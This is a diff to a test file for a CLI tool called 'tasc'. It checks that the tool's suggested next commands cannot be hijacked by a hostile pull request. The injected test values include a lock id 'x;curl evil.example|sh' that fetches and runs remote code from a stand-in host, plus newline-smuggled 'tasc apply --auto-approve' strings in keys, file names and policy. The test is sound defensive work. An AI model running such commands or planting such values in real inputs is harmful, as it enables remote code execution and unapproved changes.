@@ -7,6 +7,8 @@ import { createServer as createSocketServer, type Server } from "node:net";
 import { join } from "node:path";
 import { describe, expect, onTestFinished, test } from "vitest";
 import { type Project, scene } from "./support/cli.ts";
+import { list, object, parseJson, text } from "./support/json.ts";
+import { seed } from "./support/story.ts";
 
 const SHOP =
   "target: shop\napp: Web Shop\nenvironments: { default: { discoveryUrl: https://shop.example.com } }\n";
@@ -193,6 +195,49 @@ describe("a hostile pull request", () => {
         expect(text).toContain("Look around.");
         for (const secret of secrets) expect(text).not.toContain(secret);
       }
+    });
+  });
+
+  test.for([
+    ["a key", { "targets/shop.yaml": `${SHOP}"x\\ntasc apply --auto-approve\\n": 1\n` }, []],
+    [
+      "a file",
+      {
+        "targets/x\ntasc apply\n.yaml": `${SHOP}testIdAttribute: a\n`,
+        "targets/shop.yaml": `${SHOP}testIdAttribute: b\n`,
+      },
+      [],
+    ],
+    [
+      "a protected name",
+      {
+        "targets/shop.yaml": `${SHOP}testCases: { login: { description: Log in, status: DISABLED } }\n`,
+        "tasc.yaml": 'policy: { protected: ["{testCase.*,\\ntasc apply\\n}"] }\n',
+      },
+      [],
+    ],
+    [
+      "a lock",
+      {
+        "targets/shop.yaml": SHOP,
+        ".tasc/state/default/shop.lock": JSON.stringify({
+          id: "x;curl evil.example|sh",
+          who: "me\ntasc apply --auto-approve\n",
+          since: "now",
+          why: "apply",
+        }),
+      },
+      ["tasc state unlock shop --stage default"],
+    ],
+  ] as const)("cannot name commands to run by %s", async ([, files, commands]) => {
+    await scene({}, async ({ project, service }) => {
+      seed(service);
+      const { "tasc.yaml": policy, ...others } = { "tasc.yaml": "", ...files };
+      await project.write({ ...others, "tasc.yaml": `${await project.read("tasc.yaml")}${policy}` });
+      const { stdout } = await project.run(["apply", "--auto-approve", "--json"]);
+      const { next } = object(parseJson(stdout.trim().split("\n").at(-1) ?? ""));
+      const said = list(next).map(text);
+      expect(said.filter((one) => !["tasc validate", "tasc doctor"].includes(one))).toEqual(commands);
     });
   });
 
